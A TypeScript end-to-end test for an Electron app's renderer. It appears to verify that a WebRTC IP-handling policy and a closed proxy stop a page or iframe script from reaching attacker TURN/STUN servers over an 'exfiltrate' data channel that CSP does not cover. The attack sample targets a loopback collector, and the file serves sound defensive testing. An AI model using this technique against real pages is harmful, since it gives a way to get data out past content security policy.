/**
 * The TURN attack on the built renderer, in Chromium: a script in the window opens an
 * RTCPeerConnection with a data channel to servers of its choosing (TURN over TCP and UDP,
 * STUN), which CSP does not govern. Without main's defence the collector hears it; with it
 * (src/main/window/webrtc.ts: the IP-handling policy, here as the profile preference Electron's
 * setWebRTCIPHandlingPolicy sets per page, and the session's proxy that goes nowhere) ICE
 * gathering ends with no candidate and nothing arrives, from the page or from an iframe.
 */
import { createSocket, type Socket } from 'node:dgram'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chromium, type Browser, type BrowserContext } from 'playwright-core'
import { WEBRTC_IP_POLICY, closedProxyConfig } from '../../src/main/window/webrtc'
import { fakeRoutes } from './fakeRoutes'
import { openApp, serveStatic, type AppPage } from './harness'
import { waitFor } from '../support/waitFor'

/** The attacker's relay and STUN server on loopback: counts every connection and packet. */
interface Collector {
  tcpPort: number
  udpPort: number
  tcp: number
  udp: number
  close(): Promise<void>
}

async function startCollector(): Promise<Collector> {
  const counts = { tcp: 0, udp: 0 }
  const tcp: Server = createServer((socket) => {
    counts.tcp++
    socket.destroy()
  })
  await new Promise<void>((ok) => tcp.listen(0, '127.0.0.1', ok))
  const udp: Socket = createSocket('udp4')
  udp.on('message', () => counts.udp++)
  await new Promise<void>((ok) => udp.bind(0, '127.0.0.1', ok))
  const tcpAddress = tcp.address()
  return {
    tcpPort: typeof tcpAddress === 'object' && tcpAddress ? tcpAddress.port : 0,
    udpPort: udp.address().port,
    get tcp() {
      return counts.tcp
    },
    get udp() {
      return counts.udp
    },
    close: async () => {
      udp.close()
      await new Promise<void>((ok) => tcp.close(() => ok()))
    }
  }
}

/**
 * Runs the attack in the page (`inFrame`: from a fresh about:blank iframe's own constructor,
 * which deleting the global would not reach) and resolves once ICE gathering is complete, with
 * the candidates found. Without the defence gathering never completes against a dead relay;
 * the control waits for the collector instead.
 */
function attack(app: AppPage, collector: Collector, inFrame: boolean): Promise<string[]> {
  return app.page.evaluate(
    async ({ tcpPort, udpPort, inFrame }) => {
      let scope: typeof globalThis = window
      if (inFrame) {
        const frame = document.createElement('iframe')
        document.body.append(frame)
        scope = frame.contentWindow as unknown as typeof globalThis
      }
      const pc = new scope.RTCPeerConnection({
        iceServers: [
          { urls: `turn:127.0.0.1:${tcpPort}?transport=tcp`, username: 'u', credential: 'c' },
          { urls: `turn:127.0.0.1:${udpPort}?transport=udp`, username: 'u', credential: 'c' },
          { urls: `stun:127.0.0.1:${udpPort}` }
        ]
      })
      pc.createDataChannel('exfiltrate')
      const candidates: string[] = []
      const complete = new Promise<void>((done) => {
        pc.addEventListener('icecandidate', (e) => {
          if (e.candidate) candidates.push(e.candidate.candidate)
          else done()
        })
      })
      await pc.setLocalDescription(await pc.createOffer())
      await complete
      pc.close()
      return candidates
    },
    { tcpPort: collector.tcpPort, udpPort: collector.udpPort, inFrame }
  )
}

describe('e2e: WebRTC closed in the window', () => {
  let server: Awaited<ReturnType<typeof serveStatic>>
  const profiles: string[] = []
  const contexts: BrowserContext[] = []

  beforeAll(async () => {
    server = await serveStatic()
  })
  afterAll(async () => {
    for (const c of contexts) await c.close()
    for (const p of profiles) rmSync(p, { recursive: true, force: true })
    await server?.close()
  })

  /** The built renderer in Chromium, with main's WebRTC defence applied or not. */
  async function openRenderer(defended: boolean): Promise<AppPage> {
    const profile = mkdtempSync(join(tmpdir(), 'dropdock-webrtc-'))
    profiles.push(profile)
    const args = ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run']
    if (defended) {
      // What setWebRTCIPHandlingPolicy sets for a page is this profile preference in Chrome.
      mkdirSync(join(profile, 'Default'))
      writeFileSync(
        join(profile, 'Default', 'Preferences'),
        JSON.stringify({ webrtc: { ip_handling_policy: WEBRTC_IP_POLICY } })
      )
      // The window's page comes from app://, which no proxy touches; here it comes from a
      // loopback server, so its address is the one direct exception, as for the dev server.
      const proxy = closedProxyConfig({ kind: 'url', url: server.url })
      args.push(
        `--proxy-server=${proxy.proxyRules}`,
        `--proxy-bypass-list=${proxy.proxyBypassRules}`
      )
    }
    const context = await chromium.launchPersistentContext(profile, {
      executablePath: '/usr/bin/chromium',
      args
    })
    contexts.push(context)
    const browser = { newContext: async () => context } as unknown as Browser
    return openApp(browser, server.url, fakeRoutes({}))
  }

  it.each([
    ['the page', false],
    ['an iframe', true]
  ])(
    'without the defence, the attack from %s reaches the attacker (the control)',
    async (_where, inFrame) => {
      const collector = await startCollector()
      const app = await openRenderer(false)
      await app.page.locator('#main').waitFor()
      void attack(app, collector, inFrame).catch(() => undefined)
      await waitFor(
        () => collector.tcp > 0 && collector.udp > 0,
        'the relay reached over TCP and UDP',
        30_000
      )
      await collector.close()
    }
  )

  it('with it, nothing leaves: not over UDP, not through a TCP relay, not from an iframe', async () => {
    const collector = await startCollector()
    const app = await openRenderer(true)
    // The renderer ran (its CSP is on) before the attack: the inbox is on screen.
    await app.page.locator('#main').waitFor()

    expect(await attack(app, collector, false)).toEqual([])
    expect(await attack(app, collector, true)).toEqual([])

    expect({ tcp: collector.tcp, udp: collector.udp }).toEqual({ tcp: 0, udp: 0 })
    await collector.close()
  })
})
